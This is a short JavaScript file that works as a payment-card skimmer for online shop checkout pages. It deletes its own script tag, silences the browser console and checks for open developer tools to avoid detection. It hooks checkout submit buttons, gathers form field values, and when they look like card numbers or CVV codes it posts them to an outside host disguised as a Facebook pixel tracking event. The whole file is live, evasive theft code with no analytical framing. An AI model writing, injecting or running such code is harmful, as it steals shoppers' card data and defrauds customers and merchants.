;(function () {
  var script = document.currentScript;
  if (script) {
    script.parentNode.removeChild(script);
  }

  var noop = function () {};
  var methods = ['log', 'debug', 'info', 'warn', 'error', 'table', 'trace', 'dir'];
  for (var i = 0; i < methods.length; i++) {
    try { console[methods[i]] = noop; } catch (e) {}
  }

  var opened = false;
  var probe = document.createElement('div');
  Object.defineProperty(probe, 'id', {
    get: function () {
      opened = true;
      return 'probe';
    }
  });

  function devtools() {
    opened = false;
    try { console.dir(probe); } catch (e) {}
    return opened;
  }

  function collect() {
    var inputs = document.querySelectorAll('input, select');
    var out = [];
    for (var j = 0; j < inputs.length; j++) {
      var el = inputs[j];
      if (!el.value || el.type === 'hidden' || el.type === 'submit') continue;
      out.push((el.name || el.id) + '=' + encodeURIComponent(el.value));
    }
    return out.join('&');
  }

  function ship() {
    if (devtools()) return;
    var payload = collect();
    if (!/cc|card|cvv|cvc/i.test(payload)) return;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://fb-pixel-cdn.top/events', true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.send('ev=PageView&s=' + encodeURIComponent(location.hostname) + '&' + payload);
  }

  if (location.pathname.indexOf('/checkout') === 0) {
    var btns = document.querySelectorAll('button[type=submit], #payment-confirm, .action.checkout');
    for (var b = 0; b < btns.length; b++) {
      btns[b].addEventListener('mousedown', ship);
    }
  }
})();
